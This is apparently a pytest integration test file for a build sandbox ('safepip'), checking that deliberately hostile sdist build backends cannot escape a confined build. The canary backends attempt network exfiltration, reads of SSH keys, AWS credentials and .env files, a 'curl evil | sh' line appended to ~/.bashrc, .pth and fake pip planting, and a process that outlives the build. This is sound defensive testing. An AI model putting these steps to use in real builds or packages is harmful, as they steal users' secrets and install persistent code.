"""The build cage, proved with canaries: a build backend that tries every way out finds each one
closed and every attempt reported; an ordinary pure-Python or C-extension sdist still builds.

The hostile backend (generated into a test sdist, in-tree via `backend-path`) tries, during
`build_wheel`: a TCP connection to a canary server on this machine's loopback and to a
documentation address, a DNS lookup, a UDP datagram; reading the cage's ~/.ssh/id_rsa (a decoy)
and a secret in the *real* home; appending to ~/.bashrc; writing a .pth into the target's
site-packages and a `pip` into its bin/; and starting a process meant to outlive the build.
"""

from __future__ import annotations

import os
import re
import socket
import sys
import sysconfig
import threading
from pathlib import Path

import pytest

from safepip.sandbox import cage as cage_module
from safepip.sandbox.cage import CageResult, UnconfinedBuildRefused, build_confined
from safepip.sandbox.mechanisms import Mechanisms, available
from tests.integration.conftest import VenvFactory
from tests.kit.archives import make_sdist

pytestmark = [pytest.mark.integration, pytest.mark.usefixtures("cage_required")]

MARKER = "safepip-cage-canary-7c1e"

HOSTILE_BACKEND = '''\
import os, socket, subprocess, sys, sysconfig
from setuptools import build_meta as _meta

get_requires_for_build_wheel = _meta.get_requires_for_build_wheel
prepare_metadata_for_build_wheel = _meta.prepare_metadata_for_build_wheel
build_sdist = _meta.build_sdist


def _try(label, action):
    try:
        action()
        print("ATTEMPT", label, "succeeded", flush=True)
    except BaseException as error:
        print("ATTEMPT", label, "failed:", type(error).__name__, error, flush=True)


def _tcp(host, port):
    with socket.create_connection((host, port), timeout=2) as sock:
        sock.sendall(b"{marker}")


def _udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"{marker}", ("127.0.0.1", {udp_port}))


def _read(path):
    with open(os.path.expanduser(path)) as handle:
        print("READ", len(handle.read()), flush=True)


def _append(path, text):
    with open(os.path.expanduser(path), "a") as handle:
        handle.write(text)


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    paths = sysconfig.get_paths()
    _try("tcp-loopback", lambda: _tcp("127.0.0.1", {tcp_port}))
    _try("tcp-outside", lambda: _tcp("192.0.2.10", 443))
    _try("dns", lambda: socket.getaddrinfo("exfil.{marker}.invalid", 443))
    _try("udp", _udp)
    _try("read-decoy", lambda: _read("~/.ssh/id_rsa"))
    _try("read-real-home", lambda: _read({real_secret!r}))
    _try("bashrc", lambda: _append("~/.bashrc", "curl evil | sh  # {marker}\\n"))
    _try("site-packages", lambda: _append(os.path.join(paths["purelib"], "zz_{marker}.pth"),
                                          "import os\\n"))
    _try("bin", lambda: _append(os.path.join(paths["scripts"], "pip"), "#!/bin/sh\\n"))
    _try("umount", lambda: subprocess.run(["umount", paths["purelib"]], check=True,
                                          capture_output=True))
    _try("reroute", lambda: subprocess.run(["ip", "route", "del", "local", "0.0.0.0/0",
                                            "dev", "lo"], check=True, capture_output=True))
    print("CAPS", [l for l in open("/proc/self/status") if l.startswith("CapEff")], flush=True)
    _try("nested-namespace", lambda: subprocess.run(["unshare", "--user", "--net", "true"],
                                                    check=True, capture_output=True))
    _try("outlive", lambda: subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(60)  # {marker}"],
        start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
    return _meta.build_wheel(wheel_directory, config_settings, metadata_directory)
'''

PYPROJECT = '''\
[build-system]
requires = ["setuptools>=70.1"]
build-backend = "hostile_backend"
backend-path = ["."]

[project]
name = "hostile"
version = "1.0"
'''


class CanaryServer:
    """TCP and UDP listeners on this machine's loopback; nothing from the cage may arrive."""

    def __init__(self) -> None:
        self.received: list[bytes] = []
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.tcp.settimeout(0.2)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.settimeout(0.2)
        self._stop = threading.Event()
        self._threads = [threading.Thread(target=self._accept, daemon=True),
                         threading.Thread(target=self._receive, daemon=True)]
        for thread in self._threads:
            thread.start()

    def _accept(self) -> None:
        while not self._stop.is_set():
            try:
                connection, _ = self.tcp.accept()
            except TimeoutError:
                continue
            with connection:
                self.received.append(b"tcp:" + connection.recv(100))

    def _receive(self) -> None:
        while not self._stop.is_set():
            try:
                self.received.append(b"udp:" + self.udp.recv(100))
            except TimeoutError:
                continue

    def close(self) -> None:
        self._stop.set()
        for thread in self._threads:
            thread.join(timeout=2)
        self.tcp.close()
        self.udp.close()


@pytest.fixture
def canary() -> CanaryServer:
    server = CanaryServer()
    yield server  # type: ignore[misc]
    server.close()


def _hostile_sdist(tmp_path: Path, canary: CanaryServer, real_secret: Path) -> Path:
    backend = HOSTILE_BACKEND.format(
        marker=MARKER, tcp_port=canary.tcp.getsockname()[1],
        udp_port=canary.udp.getsockname()[1], real_secret=str(real_secret))
    return make_sdist(tmp_path / "sdist", "hostile", "1.0", pyproject_toml=PYPROJECT,
                      files={"hostile_backend.py": backend, "hostile/__init__.py": ""})


def _target_paths(venv: Path) -> list[dict[str, str]]:
    return [sysconfig.get_paths(vars={"base": str(venv), "platbase": str(venv)}),
            sysconfig.get_paths(vars={"base": sys.base_prefix, "platbase": sys.base_exec_prefix})]


def _launchers(venv: Path) -> dict[str, bytes]:
    """The bytes of every `pip*` launcher in the venv's and its base interpreter's bin/."""
    return {str(path): path.read_bytes() for paths in _target_paths(venv)
            for path in Path(paths["scripts"]).glob("pip*") if path.is_file()}


def _host_processes_with(marker: str) -> list[str]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                cmdline = Path(f"/proc/{entry}/cmdline").read_bytes()
            except OSError:
                continue
            if marker.encode() in cmdline and b"pytest" not in cmdline:
                found.append(cmdline.decode("utf-8", "replace"))
    return found


def test_every_way_out_is_closed_and_reported(
    tmp_path: Path, venv: Path, vetted: Path, canary: CanaryServer,
) -> None:
    real_secret = tmp_path / "real-home" / ".ssh" / "id_rsa"
    real_secret.parent.mkdir(parents=True)
    real_secret.write_text(f"REAL-SECRET-{MARKER}\n")
    sdist = _hostile_sdist(tmp_path, canary, real_secret)
    launchers_before = _launchers(venv)
    result = build_confined(sdist, package="hostile", version="1.0",
                            python=str(venv / "bin" / "python"), vetted_dir=vetted,
                            output_dir=tmp_path / "out")
    rules = {(f.rule, f.evidence) for f in result.dynamic_findings}
    evidence = " | ".join(sorted(str(e) for _, e in rules))
    # Network: nothing reached the real loopback, each attempt was seen.
    assert canary.received == []
    assert "ATTEMPT tcp-loopback failed" in result.log
    assert "ATTEMPT tcp-outside failed" in result.log
    assert "ATTEMPT udp succeeded" in result.log or "ATTEMPT udp failed" in result.log
    assert f"127.0.0.1 port {canary.tcp.getsockname()[1]}" in evidence
    assert "192.0.2.10 port 443" in evidence
    assert f"exfil.{MARKER}.invalid" in evidence
    assert f"UDP connection to 127.0.0.1 port {canary.udp.getsockname()[1]}" in evidence
    # Secrets: the decoy read is evidence; the real home is out of reach.
    assert ("dynamic/secret-read", "~/.ssh/id_rsa") in rules
    assert "ATTEMPT read-real-home failed: PermissionError" in result.log
    assert f"REAL-SECRET-{MARKER}" not in result.log
    # Persistence: the throwaway ~/.bashrc and the overlaid target folders.
    assert ("dynamic/persistence", "~/.bashrc") in rules
    assert any(e and e.endswith(f"zz_{MARKER}.pth") for _, e in rules)
    assert any(e and re.search(r"/bin/pip[0-9.]*$", e) for _, e in rules)
    for paths in _target_paths(venv):  # the venv's and its base interpreter's: untouched
        assert not Path(paths["purelib"], f"zz_{MARKER}.pth").exists()
    assert _launchers(venv) == launchers_before
    assert "ATTEMPT site-packages failed" not in result.log  # it "worked", in the scratch layer
    # The cage cannot be taken apart from inside: no capabilities left to do it with.
    assert "ATTEMPT umount failed" in result.log
    assert "ATTEMPT reroute failed" in result.log
    if available().setpriv:
        assert "CapEff:\\t0000000000000000" in result.log
    if available().seccomp:
        assert "ATTEMPT nested-namespace failed" in result.log
    # A process meant to outlive the build was seen, and is gone.
    assert any(rule == "dynamic/process" for rule, _ in rules)
    assert _host_processes_with(MARKER) == []
    assert all(f.severity.label == "high" for f in result.dynamic_findings)
    _assert_mechanisms(result)


def _assert_mechanisms(result: CageResult) -> None:
    said = " ".join(result.enforced)
    assert "no network" in said and "every attempt recorded" in said
    assert "PID namespace" in said and "throwaway HOME" in said
    if available().setpriv:
        assert "no capabilities" in said
    if available().seccomp:
        assert "seccomp" in said
    if available().landlock_abi:
        assert "Landlock" in said


def test_an_ordinary_sdist_builds_and_is_scanned(
    tmp_path: Path, venv: Path, vetted: Path,
) -> None:
    sdist = make_sdist(tmp_path / "sdist", "plain-pkg", "1.0")
    result = build_confined(sdist, package="plain-pkg", version="1.0",
                            python=str(venv / "bin" / "python"), vetted_dir=vetted,
                            output_dir=tmp_path / "out")
    assert result.findings == ()
    assert result.wheel is not None and result.wheel.name == "plain_pkg-1.0-py3-none-any.whl"
    assert result.wheel.parent == tmp_path / "out"
    _assert_mechanisms(result)


C_SETUP = '''\
from setuptools import Extension, setup
setup(name="cext", version="1.0", ext_modules=[Extension("cext", ["cext.c"])])
'''
C_SOURCE = '''\
#include <Python.h>
static PyObject *answer(PyObject *self, PyObject *args) { return PyLong_FromLong(42); }
static PyMethodDef methods[] = {{"answer", answer, METH_NOARGS, NULL}, {NULL, NULL, 0, NULL}};
static struct PyModuleDef module = {PyModuleDef_HEAD_INIT, "cext", NULL, -1, methods};
PyMODINIT_FUNC PyInit_cext(void) { return PyModule_Create(&module); }
'''


def test_a_c_extension_sdist_still_builds(tmp_path: Path, venv: Path, vetted: Path) -> None:
    if not os.path.exists("/usr/bin/gcc") and not os.path.exists("/usr/bin/cc"):
        pytest.skip("no C compiler on this machine")
    sdist = make_sdist(tmp_path / "sdist", "cext", "1.0", setup_py=C_SETUP,
                       pyproject_toml='[build-system]\nrequires = ["setuptools>=70.1"]\n'
                                      'build-backend = "setuptools.build_meta"\n',
                       files={"cext.c": C_SOURCE})
    result = build_confined(sdist, package="cext", version="1.0",
                            python=str(venv / "bin" / "python"), vetted_dir=vetted,
                            output_dir=tmp_path / "out")
    assert result.wheel is not None, result.log
    assert "-cp3" in result.wheel.name and "linux" in result.wheel.name
    assert result.dynamic_findings == ()


def test_without_namespaces_the_build_is_refused_with_the_way_out(
    tmp_path: Path, vetted: Path, monkeypatch: pytest.MonkeyPatch,
) -> None:
    none = Mechanisms(unshare=None, landlock_abi=0,
                      reasons=("namespaces: the `unshare` command (util-linux) is not installed",))
    monkeypatch.setattr(cage_module, "available", lambda: none)
    sdist = make_sdist(tmp_path / "sdist", "plain-pkg", "1.0")
    with pytest.raises(UnconfinedBuildRefused) as info:
        build_confined(sdist, package="plain-pkg", version="1.0", python=sys.executable,
                       vetted_dir=vetted, output_dir=tmp_path / "out")
    assert "--allow-unconfined-build" in info.value.diagnostics()
    assert "wheel" in info.value.diagnostics()
    assert info.value.exit_code == 3
    assert not (tmp_path / "out").exists()


def test_a_waived_cage_still_builds_under_landlock_and_says_what_was_missing(
    tmp_path: Path, venv: Path, vetted: Path, monkeypatch: pytest.MonkeyPatch,
) -> None:
    real = available()
    waived = Mechanisms(unshare=None, landlock_abi=real.landlock_abi,
                        reasons=("namespaces: the `unshare` command (util-linux) is not "
                                 "installed",))
    monkeypatch.setattr(cage_module, "available", lambda: waived)
    sdist = make_sdist(tmp_path / "sdist", "plain-pkg", "1.0")
    result = build_confined(sdist, package="plain-pkg", version="1.0",
                            python=str(venv / "bin" / "python"), vetted_dir=vetted,
                            output_dir=tmp_path / "out", allow_unconfined=True)
    assert result.wheel is not None
    assert any("waived with --allow-unconfined-build" in m for m in result.missing)
    assert not any("no network" in e for e in result.enforced)
    assert any("Landlock" in e for e in result.enforced) == bool(real.landlock_abi)


def test_only_writes_where_code_runs_from_count_as_persistence() -> None:
    from safepip.sandbox.cage import persists

    for name in (".bashrc", ".zshenv", ".ssh/authorized_keys", ".config/autostart/x.desktop",
                 ".local/bin/pip", ".local/lib/python3.11/site-packages/x.pth",
                 ".config/systemd/user/x.service", ".gitconfig"):
        assert persists(name), name
    for name in (".cargo/registry/index", "go/pkg/mod/x", ".npm/_cacache/x", "build.log",
                 ".config/matplotlib/matplotlibrc"):
        assert not persists(name), name


ABSOLUTE_BACKEND = '''\
from setuptools import build_meta as _meta

get_requires_for_build_wheel = _meta.get_requires_for_build_wheel
prepare_metadata_for_build_wheel = _meta.prepare_metadata_for_build_wheel
build_sdist = _meta.build_sdist


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    for name in (".ssh/id_rsa", ".aws/credentials", "project/.env"):
        try:
            with open({home!r} + "/" + name) as handle:
                print("READ", name, handle.read()[:60].replace("\\\\n", " "), flush=True)
        except OSError as error:
            print("READ", name, "failed:", type(error).__name__, flush=True)
    try:
        with open({home!r} + "/.bashrc", "a") as handle:
            handle.write("curl evil | sh\\\\n")
        print("APPEND succeeded", flush=True)
    except OSError as error:
        print("APPEND failed:", type(error).__name__, flush=True)
    return _meta.build_wheel(wheel_directory, config_settings, metadata_directory)
'''


def test_the_real_home_read_by_its_absolute_path_is_a_decoy_and_reported(
    tmp_path: Path, venv: Path, vetted: Path, monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The user's home (here HOME pointed at a folder holding a real-looking key and shell
    profile; and /root, when the tests run as root, whose interpreter the build needs) is
    hidden behind the decoy home inside the cage: reading ~/.ssh/id_rsa by its absolute path
    reads the decoy (dynamic/secret-read), appending to its .bashrc appends to the decoy's
    (dynamic/persistence); the real files are neither read nor changed."""
    home = tmp_path / "real-home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(f"REAL-SECRET-{MARKER}\n")
    (home / ".bashrc").write_text("# the user's own\n")
    (home / "project").mkdir()
    (home / "project" / ".env").write_text(f"TOKEN=REAL-SECRET-{MARKER}\n")
    monkeypatch.setenv("HOME", str(home))
    sdist = make_sdist(
        tmp_path / "sdist", "absolute", "1.0",
        pyproject_toml=PYPROJECT.replace("hostile", "absolute"),
        files={"absolute_backend.py": ABSOLUTE_BACKEND.format(home=str(home)),
               "absolute/__init__.py": ""})
    result = build_confined(sdist, package="absolute", version="1.0",
                            python=str(venv / "bin" / "python"), vetted_dir=vetted,
                            output_dir=tmp_path / "out")
    assert result.wheel is not None, result.log
    assert f"REAL-SECRET-{MARKER}" not in result.log
    assert "READ .ssh/id_rsa -----BEGIN OPENSSH PRIVATE KEY-----" in result.log  # the decoy
    assert "READ project/.env failed: FileNotFoundError" in result.log  # hidden, not kept
    assert "APPEND succeeded" in result.log
    assert (home / ".bashrc").read_text() == "# the user's own\n"
    rules = {(f.rule, f.evidence) for f in result.dynamic_findings}
    assert ("dynamic/secret-read", "~/.ssh/id_rsa") in rules
    assert ("dynamic/secret-read", "~/.aws/credentials") in rules
    assert ("dynamic/persistence", "~/.bashrc") in rules
    assert any("home folder hidden behind the decoy home" in e for e in result.enforced)


def test_a_home_holding_the_cages_own_folders_is_not_hidden(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
) -> None:
    """With TMPDIR inside the home, hiding the home would hide the build's own folders."""
    from safepip.sandbox.cage import hideable_homes

    home = tmp_path / "home"
    (home / "tmp").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    homes, _ = hideable_homes([tmp_path / "elsewhere"])
    assert os.path.realpath(home) in homes
    homes, why = hideable_homes([home / "tmp" / "safepip-cage-x"])
    assert os.path.realpath(home) not in homes
    if not homes:
        assert why == "the build's own folders are inside it (TMPDIR)"


PTH_BACKEND = '''\
from setuptools import build_meta as _meta

get_requires_for_build_wheel = _meta.get_requires_for_build_wheel
prepare_metadata_for_build_wheel = _meta.prepare_metadata_for_build_wheel
build_sdist = _meta.build_sdist


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    with open({purelib!r} + "/zz_{marker}.pth", "w") as handle:
        handle.write("import os\\\\n")
    return _meta.build_wheel(wheel_directory, config_settings, metadata_directory)
'''


def test_a_target_environment_inside_the_hidden_home_still_builds_and_is_overlaid(
    tmp_path: Path, vetted: Path, make_venv: VenvFactory, monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The common layout ~/project/.venv: the target is bound back beneath the hidden home, so
    the build runs, and a write into its site-packages still lands in the overlay (evidence)."""
    home = tmp_path / "real-home"
    monkeypatch.setenv("HOME", str(home))
    target = make_venv(home / "project" / ".venv")
    purelib = sysconfig.get_paths(vars={"base": str(target), "platbase": str(target)})["purelib"]
    sdist = make_sdist(
        tmp_path / "sdist", "inhome", "1.0", pyproject_toml=PYPROJECT.replace("hostile", "inhome"),
        files={"inhome_backend.py": PTH_BACKEND.format(purelib=purelib, marker=MARKER),
               "inhome/__init__.py": ""})
    result = build_confined(sdist, package="inhome", version="1.0",
                            python=str(target / "bin" / "python"), vetted_dir=vetted,
                            output_dir=tmp_path / "out")
    assert result.wheel is not None, result.log
    assert any("home folder hidden" in e for e in result.enforced)
    assert [(f.rule, f.evidence) for f in result.dynamic_findings] == [
        ("dynamic/persistence", f"{purelib}/zz_{MARKER}.pth")]
    assert not Path(purelib, f"zz_{MARKER}.pth").exists()
